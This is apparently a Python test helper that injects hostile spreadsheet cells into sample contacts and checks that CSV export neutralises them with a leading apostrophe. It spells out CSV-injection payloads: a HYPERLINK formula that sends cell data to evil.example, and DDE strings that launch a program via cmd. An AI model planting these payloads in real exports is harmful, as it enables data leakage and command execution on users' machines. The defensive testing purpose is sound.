"""Hostile spreadsheet cells (issue 15) put into the sample contacts, and the check that a
command's CSV output neutralises them: every text cell a spreadsheet would run as a formula
starts with ``'``."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

#: Cells that Excel would run as formulas (or DDE commands), from the issue.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=cmd"
MINUS = "-2+3+cmd|' /C calc'!A0"
#: (email, name, organisation): DCSs, so on the lists dcs, send-network and everyone.
HOSTILE_CONTACTS = (
    ("evil.one@walsall.example.org", HYPERLINK, "Walsall Council"),
    ("evil.two@walsall.example.org", DDE, TAB),
    ("evil.three@walsall.example.org", TAB, HYPERLINK),
    ("evil.four@walsall.example.org", "+Plus Sign", MINUS),
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def add_hostile_contacts(project_dir: Path) -> list[str]:
    """Append the hostile contacts to recipients/contacts.csv; return their addresses."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for email, name, organisation in HOSTILE_CONTACTS:
        writer.writerow([email, name, organisation, "Director of Children's Services", "dcs"])
    contacts = project_dir / "recipients" / "contacts.csv"
    with contacts.open("a", encoding="utf-8", newline="") as fh:
        fh.write(out.getvalue())
    return [email for email, _n, _o in HOSTILE_CONTACTS]


def read_csv(text: str) -> list[dict[str, str]]:
    """CSV output read back as Excel's CSV import would split it."""
    return list(csv.DictReader(io.StringIO(text)))


def formulas(rows: list[dict[str, str]]) -> list[str]:
    """Every cell a spreadsheet would take as a formula (plain numbers are not)."""
    return [
        cell for row in rows for cell in row.values()
        if cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)
    ]  # fmt: skip


def neutralised(value: str) -> set[str]:
    """How a hostile value may come out: quoted as it is, or quoted once the contacts
    reader has taken surrounding spaces and tabs off it (a name is read stripped)."""
    return {"'" + value, "'" + value.strip()}
